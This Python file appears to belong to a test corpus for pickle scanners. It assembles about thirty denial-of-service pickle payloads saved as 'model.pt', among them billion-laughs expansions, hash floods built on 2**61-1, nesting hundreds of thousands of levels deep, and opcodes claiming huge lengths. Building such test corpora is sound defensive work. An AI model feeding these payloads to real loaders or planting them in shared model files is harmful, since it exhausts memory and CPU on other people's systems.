"""Small pickles that ask for much: time, memory, or depth."""

from __future__ import annotations

import struct
from collections.abc import Callable

from attacks.assembling import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    MARK,
    MEMOIZE,
    POP,
    SETITEM,
    call,
    named,
    number,
    pickled,
    plain,
    stacked,
    text,
)  # fmt: skip
from attacks.attack import DAMAGED, DANGEROUS, NEEDS_CODE, Attack, Corpus, Place

PRIME = 2**61 - 1
"""Python's hash of a whole number is its remainder by this."""


def _list(*items: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def _doubled(pair: Callable[[bytes], bytes]) -> bytes:
    """Return opcodes of a hundred values, each of which holds the last one twice."""
    return MEMOIZE + b"".join(pair(b"h" + bytes([n])) + MEMOIZE for n in range(100))


def _tuples() -> bytes:
    return b")" + _doubled(lambda last: last + last + b"\x86")


def _again(value: bytes, use: bytes, times: int) -> bytes:
    """Return opcodes that put a value into the memo and use it again and again."""
    return value + b"q\0" + POP + _list(use * times)


_AS_KEY = EMPTY_DICT + b"h\0N" + SETITEM

BOMBS: list[tuple[str, str, Callable[[], bytes]]] = [
    ("expansion", "billion laughs of lists", lambda: EMPTY_LIST + _doubled(lambda last: _list(last, last))),
    ("expansion", "billion laughs of tuples", _tuples),
    ("expansion", "billion laughs as a key", lambda: EMPTY_DICT + _tuples() + b"N" + SETITEM),
    ("expansion", "a long text as many keys", lambda: _again(text("x" * 200_000), _AS_KEY, 20_000)),
    ("expansion", "a long tuple as many keys", lambda: _again(plain(tuple(range(900))), _AS_KEY, 10_000)),
    ("expansion", "a list copied again and again",
     lambda: _again(plain(list(range(5000))), stacked("collections", "deque") + b"h\0\x85R", 5000)),
    ("hash flood", "numbers of one hash",
     lambda: EMPTY_DICT + MARK + b"".join(number(PRIME * n) + b"N" for n in range(1, 30_000)) + b"u"),
    ("hash flood", "numbers of one hash in a set",
     lambda: EMPTY_SET + MARK + b"".join(number(PRIME * n) for n in range(1, 30_000)) + ADDITEMS),
    ("hash flood", "floats of one hash",
     lambda: EMPTY_DICT + MARK + b"".join(plain(float(PRIME << n)) + b"N" for n in range(900)) * 30 + b"u"),
    ("depth", "lists three hundred thousand deep", lambda: EMPTY_LIST * 300_000 + APPEND * 299_999),
    ("depth", "tuples three hundred thousand deep", lambda: b")" + b"\x85" * 300_000),
    ("depth", "marks three hundred thousand deep", lambda: MARK * 300_000 + b"l" * 300_000),
    ("depth", "dicts a hundred thousand deep", lambda: (EMPTY_DICT + b"K\1") * 100_000 + b"N" + b"s" * 100_000),
    ("depth", "calls thirty thousand deep",
     lambda: b"N" + (b"q\0" + POP + stacked("nobody", "f") + b"h\0\x85R") * 30_000),
    ("depth", "states thirty thousand deep",
     lambda: b"N" + (b"q\0" + POP + stacked("nobody", "C") + b")\x81h\0" + BUILD) * 30_000),
    ("depth", "a list within itself", lambda: EMPTY_LIST + MEMOIZE + b"h\0" + APPEND),
    ("claimed length", "BINUNICODE8 of 2**63", lambda: b"\x8d" + struct.pack("<Q", 2**63)),
    ("claimed length", "BINBYTES8 of 2**40", lambda: b"\x8e" + struct.pack("<Q", 2**40)),
    ("claimed length", "BYTEARRAY8 of 2**62", lambda: b"\x96" + struct.pack("<Q", 2**62)),
    ("claimed length", "LONG4 of 2**31-1", lambda: b"\x8b" + struct.pack("<i", 2**31 - 1)),
    ("claimed length", "LONG_BINPUT of 2**32-1", lambda: b"Nr\xff\xff\xff\xff"),
    ("claimed length", "range of 2**62", lambda: call("builtins:list", call("builtins:range", 2**62))),
    ("claimed length", "bytearray of 2**40", lambda: call("builtins:bytearray", 2**40)),
    ("claimed length", "bytes of 2**40", lambda: call("builtins:bytes", 2**40)),
    ("many", "a hundred thousand empty dicts", lambda: _list(EMPTY_DICT * 100_000)),
    ("many", "a hundred thousand numbers", lambda: _list(b"K\1" * 100_000)),
    ("many", "a hundred thousand names", lambda: _list(*(named("m", f"n{n}") for n in range(100_000)))),
    ("many", "one DUP after another", lambda: b"N" + DUP * 1_000_000),
]  # fmt: skip


def add_to(corpus: Corpus) -> None:
    for group, name, body in BOMBS:

        def write(place: Place, body: Callable[[], bytes] = body) -> object:
            return place.write("model.pt", pickled(body()))

        verdicts = (DAMAGED, DANGEROUS, NEEDS_CODE, "safe")  # some are only odd; what counts is what they cost
        corpus.add(Attack(name, group, "denial of service", write, verdicts, ()))  # type: ignore[arg-type]
